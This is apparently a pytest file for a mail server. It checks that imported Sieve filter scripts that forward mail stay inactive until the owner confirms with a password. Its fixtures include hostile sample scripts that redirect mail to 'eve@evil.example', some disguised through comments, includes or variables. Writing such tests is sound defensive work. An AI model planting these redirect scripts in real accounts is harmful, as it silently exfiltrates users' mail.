"""CWE-862: what comes from a file or another server sends no mail on before its owner, with the password, has said so."""

import asyncio
import dataclasses
import io
import json
import threading
import zipfile
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import asdict
from pathlib import Path
from typing import Any

import pytest

from mailcore import core as cores
from mailcore.config import Config, ForwardingSettings
from mailcore.core import Core
from mailcore.domain import Account, Envelope, FilterAction, FilterRule, FilterVerb, Script
from mailcore.errors import Busy, ScriptHeld
from mailcore.managesieve import server
from mailcore.services import certificates
from mailcore.services.accounts import accounts
from mailcore.services.delivery import delivery, imapsieve, queue_admin, recipients
from mailcore.services.forwarding import forwarding
from mailcore.services.sieve_scripts import filters, scripts_library, sieve_import
from mailcore.services.sieve_scripts.sieve_import import OldServer
from mailcore.services.transfer import takeout, takeout_import
from mailcore.services.transfer.mail_import import Report
from mailcore.store.delivery.scripts import save_script
from mailcore.store.mail import annotations
from portal import create_app
from tests.portal.conftest import PASSWORD, Browser

EVE = "eve@evil.example"
REDIRECTS = f'require "copy";\r\nif true {{ ReDirect :copy "{EVE}"; }}\r\n'
SENDING = {
    "redirect": REDIRECTS,
    "in a comment's company": f'require ["copy"]; /* */ redirect # x\r\n:copy "{EVE}";\r\n',
    "notify": f'require ["enotify"];\r\nnotify "mailto:{EVE}";\r\n',
    "by another of the file": 'require "include";\r\ninclude :personal "deep";\r\n',
    "by its own text": f'require ["variables"];\r\nset "to" "{EVE}";\r\nredirect "${{to}}";\r\n',
}
MESSAGE = b"From: kari@elsewhere.example\r\nSubject: x\r\nMessage-ID: <a@elsewhere.example>\r\n\r\nx\r\n"
HARMLESS = 'require "fileinto";\r\nfileinto "Archive";\r\n'


@pytest.fixture
def core(tmp_path: Path) -> Iterator[Core]:
    made = cores.build(Config(data=str(tmp_path)))
    yield made
    cores.close(made)


@pytest.fixture
def ola(core: Core) -> Account:
    return accounts.add_account(core, "ola", password=PASSWORD)


def archive(scripts: dict[str, str], active: str = "", **settings: object) -> io.BytesIO:
    """A take-out as a stranger would write it."""
    told = {
        "format": takeout.FORMAT,
        "mailboxes": [],
        "settings": settings,
        "scripts": [
            {"name": name, "file": f"scripts/{number}.sieve", "active": name == active, "origin": "personal"}
            for number, name in enumerate(scripts)
        ],
    }
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as made:
        made.writestr("alumnimail.json", json.dumps(told))
        for number, source in enumerate(scripts.values()):
            made.writestr(f"scripts/{number}.sieve", source)
    file.seek(0)
    return file


def bring(core: Core, ola: Account, scripts: dict[str, str], active: str = "", **settings: object) -> Report:
    return takeout_import.import_takeout(core, ola.id, archive(scripts, active, **settings))


def deliver(core: Core) -> list[str]:
    """One message for ola; to whom mail goes on."""

    async def run() -> None:
        found = core.db.read(lambda tx: recipients.check_recipient(core, tx, "ola@alumni.example", None))
        envelope = Envelope("kari@elsewhere.example", ("ola@alumni.example",))
        await delivery.accept(core, envelope, [found], MESSAGE, b"")

    before = len(queue_admin.list_queue(core))
    asyncio.run(run())
    return [item.recipient for item in queue_admin.list_queue(core)[before:] if item.origin != "dsn"]


def states(core: Core, ola: Account) -> dict[str, tuple[bool, bool]]:
    return {one.name: (one.active, one.held) for one in filters.read_scripts(core, ola.id)}


def notices(core: Core, ola: Account) -> int:
    return sum(box.messages for box in core.db.read(lambda tx: core.mail.mailboxes(tx, ola.id)))


@pytest.mark.parametrize("source", SENDING.values(), ids=SENDING)
def test_a_take_out_activates_nothing_and_its_owner_hears_of_it(core: Core, ola: Account, source: str) -> None:
    before = notices(core, ola)
    done = bring(core, ola, {"main": source, "deep": REDIRECTS}, active="main")
    assert states(core, ola) == {"main": (False, True), "deep": (False, True)}
    assert notices(core, ola) == before + 1
    assert "not active" in " ".join(map(str, done.notes))
    assert deliver(core) == []


def test_a_harmless_script_stands_inactive_too(core: Core, ola: Account) -> None:
    bring(core, ola, {"main": HARMLESS}, active="main")
    assert states(core, ola) == {"main": (False, True)}
    filters.set_active_script(core, ola.id, "main")  # which needs no password: it sends nothing
    assert states(core, ola) == {"main": (True, False)}


# Other ways to make it run


@pytest.mark.parametrize("source", SENDING.values(), ids=SENDING)
def test_it_is_not_activated_without_the_password(core: Core, ola: Account, source: str) -> None:
    """As ManageSieve's SETACTIVE does: a phone that toggles whatever stands there knows nothing of it."""
    bring(core, ola, {"main": source, "deep": REDIRECTS})
    with pytest.raises(ScriptHeld):
        filters.set_active_script(core, ola.id, "main")
    assert deliver(core) == []
    filters.set_active_script(core, ola.id, "main", proven=True)
    assert states(core, ola)["main"] == (True, False)
    assert len(deliver(core)) == 1


def test_an_active_script_does_not_include_it(core: Core, ola: Account) -> None:
    filters.put_script(core, ola.id, "mine", 'require "include";\r\ninclude :personal :optional "extra";\r\n')
    filters.set_active_script(core, ola.id, "mine")
    bring(core, ola, {"extra": REDIRECTS})
    assert deliver(core) == []
    with pytest.raises(ScriptHeld):
        filters.set_active_script(core, ola.id, "mine")
    filters.put_script(core, ola.id, "extra", REDIRECTS)  # written by its owner
    assert deliver(core) == [EVE]


def test_what_comes_in_while_a_script_is_activated_is_held_too(core: Core, ola: Account, monkeypatch) -> None:
    """The scripts are read first, and activated if they are still the same."""
    filters.put_script(core, ola.id, "main", 'require "include";\r\ninclude :personal :optional "extra";\r\n')
    look = scripts_library.list_included
    waiting = [{"extra": REDIRECTS}]

    def look_then_bring(*args: Any) -> Any:
        found = look(*args)
        if waiting:
            bring(core, ola, waiting.pop())
        return found

    monkeypatch.setattr(scripts_library, "list_included", look_then_bring)
    with pytest.raises(ScriptHeld):
        filters.set_active_script(core, ola.id, "main")
    assert deliver(core) == []


def test_scripts_that_never_stay_the_same_are_not_activated(core: Core, ola: Account, monkeypatch) -> None:
    filters.put_script(core, ola.id, "main", HARMLESS)
    look, numbers = scripts_library.list_included, iter(range(1, 100))

    def look_then_change(*args: Any) -> Any:
        found = look(*args)
        core.db.write(lambda tx: save_script(tx, ola.id, Script("main", HARMLESS + "#" * next(numbers), False)))
        return found

    monkeypatch.setattr(scripts_library, "list_included", look_then_change)
    with pytest.raises(Busy):
        filters.set_active_script(core, ola.id, "main")
    assert states(core, ola) == {"main": (False, False)}


def test_a_new_name_does_not_free_it(core: Core, ola: Account) -> None:
    bring(core, ola, {"a": REDIRECTS})
    filters.rename_script(core, ola.id, "a", "b")
    with pytest.raises(ScriptHeld):
        filters.set_active_script(core, ola.id, "b")


def test_no_mailbox_runs_it(core: Core, ola: Account) -> None:
    """IMAPSIEVE (RFC 6785) names any script in an annotation."""
    filters.put_script(core, ola.id, "own", HARMLESS)
    bring(core, ola, {"main": REDIRECTS})
    inbox = core.db.read(lambda tx: core.mail.mailbox(tx, ola.id, "INBOX"))
    for name, runs in (("main", False), ("own", True)):
        core.db.write(lambda tx, name=name: annotations.save_entry(tx, ola.id, 0, imapsieve.ENTRY, name.encode()))
        assert bool(core.db.read(lambda tx: imapsieve.script_for(tx, ola.id, inbox.id))) is runs


def test_a_file_replaces_no_script_that_is_active(core: Core, ola: Account) -> None:
    filters.put_script(core, ola.id, "main", HARMLESS)
    filters.set_active_script(core, ola.id, "main")
    bring(core, ola, {"main": REDIRECTS}, active="main")
    assert states(core, ola) == {"main": (True, False)}
    assert deliver(core) == []


# The other things that a take-out holds


def test_neither_forwarding_nor_filters_that_forward_come_in(tmp_path: Path) -> None:
    rule = asdict(FilterRule("f", (), (FilterAction(FilterVerb.FORWARD, EVE),)))
    wish = {"target": EVE, "state": "healthy", "copy": True, "confirmed_at": "2026-01-01T00:00:00+00:00"}
    for targets in ("confirmed", "any", "none"):
        site = cores.build(Config(data=str(tmp_path / targets), forwarding=ForwardingSettings(targets=targets)))
        ola = accounts.add_account(site, "ola", password=PASSWORD)
        done = bring(site, ola, {}, filters=[rule], forwarding=wish)
        assert forwarding.read_forwarding(site, ola.id).target == ""
        assert filters.list_rules(site, ola.id) == ()
        assert len(done.notes) == 2
        assert deliver(site) == []
        cores.close(site)


# An old server


@contextmanager
def managesieve(core: Core) -> Iterator[tuple[int, str]]:
    """The port (STARTTLS, for `localhost`), and the file of the CA to trust."""
    listen = dataclasses.replace(core.config.listen, managesieve="127.0.0.1:0")
    core = dataclasses.replace(core, config=dataclasses.replace(core.config, listen=listen))
    certificates.ensure_certificate(core.config, core.clock)
    ready, stop, ports = threading.Event(), threading.Event(), list[int]()

    async def run() -> None:
        servers = await server.start(core, certificates.tls_context(core.config))
        ports.append(servers[0].sockets[0].getsockname()[1])
        ready.set()
        await asyncio.to_thread(stop.wait)
        for one in servers:
            one.close()

    thread = threading.Thread(target=lambda: asyncio.run(run()))
    thread.start()
    try:
        assert ready.wait(60)
        yield ports[0], str(core.config.data_path / "tls" / "ca.pem")
    finally:
        stop.set()
        thread.join()


@pytest.mark.parametrize(
    ("source", "active"), [(REDIRECTS, False), (SENDING["by another of the file"], False), (HARMLESS, True)]
)
def test_an_old_server_s_script_that_sends_mail_on_stands_inactive(tmp_path: Path, source: str, active: bool) -> None:
    old, new = cores.build(Config(data=str(tmp_path / "old"))), cores.build(Config(data=str(tmp_path / "new")))
    before = accounts.add_account(old, "ola", password=PASSWORD)
    for name, text in (("deep", REDIRECTS), ("main", source)):
        filters.put_script(old, before.id, name, text)
    filters.set_active_script(old, before.id, "main")
    ola = accounts.add_account(new, "ola", password=PASSWORD)
    with managesieve(old) as (port, ca):
        done = sieve_import.import_scripts(new, ola.id, OldServer("localhost", "ola", PASSWORD, port, ca=ca))
    assert (done.active, done.inactive) == (("main", "") if active else ("", "main"))
    assert states(new, ola) == {"main": (active, not active), "deep": (False, True)}
    assert deliver(new) == []
    assert notices(new, ola) == 3  # welcome, what was brought in, the message
    cores.close(old)
    cores.close(new)


# The pages


@pytest.fixture
def inside(core: Core, ola: Account) -> Browser:
    browser = Browser(create_app(core).test_client())
    assert browser.log_in().status_code == 303
    return browser


@pytest.mark.parametrize("source", SENDING.values(), ids=SENDING)
@pytest.mark.parametrize("imported", [True, False])
def test_the_page_takes_into_use_what_sends_mail_on_with_the_password_only(
    core: Core, ola: Account, inside: Browser, source: str, imported: bool
) -> None:
    """Also one that its owner wrote and turned off: an open browser alone turns nothing on."""
    bring(core, ola, {"main": source, "deep": REDIRECTS})
    if not imported:
        for name in ("main", "deep"):
            filters.put_script(core, ola.id, name, filters.get_script(core, ola.id, name).source)
    assert inside.send("/filters", to="/filters/scripts/main/activate").headers["Location"] == "/filters/scripts/main"
    assert not states(core, ola)["main"][0]
    for secret in ({}, {"password": ""}, {"password": "wrong"}):
        answer = inside.send(
            "/filters/scripts/main", mark=mark(inside, "main"), source=source, action="activate", **secret
        )
        assert (answer.status_code, states(core, ola)["main"][0]) == (403, False)
    answer = inside.send(
        "/filters/scripts/main", mark=mark(inside, "main"), source=source, action="activate", password=PASSWORD
    )
    assert (answer.status_code, states(core, ola)["main"]) == (303, (True, False))
    assert EVE in deliver(core)


def mark(browser: Browser, name: str) -> str:
    return browser.get(f"/filters/scripts/{name}").text.partition('name="mark" value="')[2].partition('"')[0]


def test_a_harmless_one_needs_none(core: Core, ola: Account, inside: Browser) -> None:
    bring(core, ola, {"main": HARMLESS})
    assert "brought in" in inside.get("/filters?lang=en").text
    assert inside.send("/filters", to="/filters/scripts/main/activate").status_code == 303
    assert states(core, ola)["main"] == (True, False)


def test_a_filter_that_forwards_to_a_target_that_is_not_asked_needs_the_password(tmp_path: Path) -> None:
    site = cores.build(Config(data=str(tmp_path), forwarding=ForwardingSettings(targets="any")))
    ola = accounts.add_account(site, "ola", password=PASSWORD)
    browser = Browser(create_app(site).test_client())
    browser.log_in()

    def save(page: str, **more: str) -> int:
        token = browser.get(page).text.partition('name="mark" value="')[2].partition('"')[0]
        return browser.send(page, mark=token, name="f", every="all", forward=EVE, action="save", **more).status_code

    assert (save("/filters/new"), filters.list_rules(site, ola.id)) == (403, ())
    assert save("/filters/new", password=PASSWORD) == 303
    assert save("/filters/1") == 303  # known by now
    cores.close(site)


def test_saving_it_as_it_is_takes_the_password_too(core: Core, ola: Account, inside: Browser) -> None:
    """Else an active script that includes it would run it from then on."""
    bring(core, ola, {"main": REDIRECTS})
    fields = {"mark": mark(inside, "main"), "source": REDIRECTS, "action": "save"}
    assert inside.send("/filters/scripts/main", **fields).status_code == 403
    assert states(core, ola) == {"main": (False, True)}
    assert inside.send("/filters/scripts/main", **fields, password=PASSWORD).status_code == 303
    assert states(core, ola) == {"main": (False, False)}
